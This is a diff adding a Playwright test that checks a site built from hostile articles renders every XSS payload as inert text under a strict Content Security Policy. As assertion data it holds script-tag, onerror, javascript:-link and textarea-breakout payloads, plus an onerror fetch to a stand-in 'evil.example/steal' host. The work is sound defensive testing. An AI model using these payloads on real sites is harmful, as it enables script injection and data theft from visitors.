@@ -1,0 +1,84 @@
+import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, test, type Page } from '@playwright/test';
+import { articleIdFor } from '../src/lib/ingest/hash.ts';
+
+/**
+ * A site built from hostile articles (tests/fixtures/hostile: <script> in titles, onerror images,
+ * javascript: links, </script> in text, direction overrides) shows all of it as text: no dialog
+ * opens, no request leaves the site's origin, and the Content Security Policy is in place.
+ */
+const PORT = 4180;
+let server: ChildProcess | undefined;
+
+test.describe('hostile articles', () => {
+	test.beforeAll(async ({}, info) => {
+		test.skip(info.project.name !== 'root', 'one build of the hostile seeds is enough');
+		test.setTimeout(180_000);
+		const out = mkdtempSync(join(tmpdir(), 'hostile-'));
+		execFileSync('node_modules/.bin/vite', ['build', '--logLevel', 'error'], {
+			env: { ...process.env, SEEDS_DIR: 'tests/fixtures/hostile', BUILD_DIR: out },
+			stdio: 'pipe'
+		});
+		server = spawn('node_modules/.bin/tsx', ['scripts/serve.ts', out, '--port', String(PORT)], { stdio: 'pipe' });
+		await new Promise<void>((ready, fail) => {
+			server!.stdout!.on('data', (d: Buffer) => d.toString().includes('Serving') && ready());
+			server!.once('exit', (code) => fail(new Error(`server exited with ${code}`)));
+		});
+	});
+
+	test.afterAll(() => {
+		server?.kill();
+	});
+
+	test('nothing runs, nothing leaves, the text still shows', async ({ page }) => {
+		const dialogs: string[] = [];
+		const foreign: string[] = [];
+		page.on('dialog', async (d) => {
+			dialogs.push(d.message());
+			await d.dismiss();
+		});
+		page.on('request', (r) => {
+			if (!r.url().startsWith(`http://127.0.0.1:${PORT}/`) && !r.url().startsWith('data:')) foreign.push(r.url());
+		});
+		await page.goto(`http://127.0.0.1:${PORT}/`);
+		const csp = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
+		expect(csp).toMatch(/script-src 'self'/);
+		expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
+
+		// a mark's card shows the sentence with its markup as text
+		await page.getByRole('button', { name: /Sunday/ }).first().click();
+		await expect(visible(page, "onerror=\"fetch('https://evil.example/steal')\"")).toBeVisible();
+
+		// the reader shows the whole hostile article as text
+		await page.goto(`http://127.0.0.1:${PORT}/#article=${articleIdFor('evil.md')}`);
+		await page.reload();
+		await expect(visible(page, "<script>alert('title')</script> Talks in <img src=x onerror=alert('img')>")).toBeVisible();
+		await page.getByRole('button', { name: /read the article/i }).first().click();
+		await expect(visible(page, "</script><script>alert('body')</script>")).toBeVisible();
+		await expect(visible(page, "{@html '<b>x</b>'} stays text")).toBeVisible();
+		await page.goto(`http://127.0.0.1:${PORT}/#article=${articleIdFor('plain.txt')}`);
+		await page.reload();
+		await expect(visible(page, 'Standfirst </textarea><script>alert(2)</script>')).toBeVisible();
+		await page.getByRole('button', { name: /read the article/i }).first().click();
+		await expect(visible(page, '<a href="javascript:alert(3)">click</a>')).toBeVisible();
+
+		// the only scripts in the document are the site's own
+		const scripts = await page.locator('script').evaluateAll((els) => els.map((e) => e.textContent ?? '').filter((t) => /alert\(/.test(t)));
+		expect(scripts).toEqual([]);
+		expect(await page.locator('img[src="x"], iframe, svg[onload], [onerror], [onmouseover]').count()).toBe(0);
+		// links only ever point to http(s)
+		const hrefs = await page.locator('a[href]').evaluateAll((els) => els.map((e) => (e as HTMLAnchorElement).href));
+		for (const href of hrefs) expect(href).toMatch(/^https?:\/\//);
+		await page.waitForTimeout(300);
+		expect(dialogs).toEqual([]);
+		expect(foreign).toEqual([]);
+		await page.screenshot({ path: 'test-results/hostile.png', fullPage: true });
+	});
+});
+
+function visible(page: Page, text: string) {
+	return page.getByText(text, { exact: false }).filter({ visible: true }).first();
+}
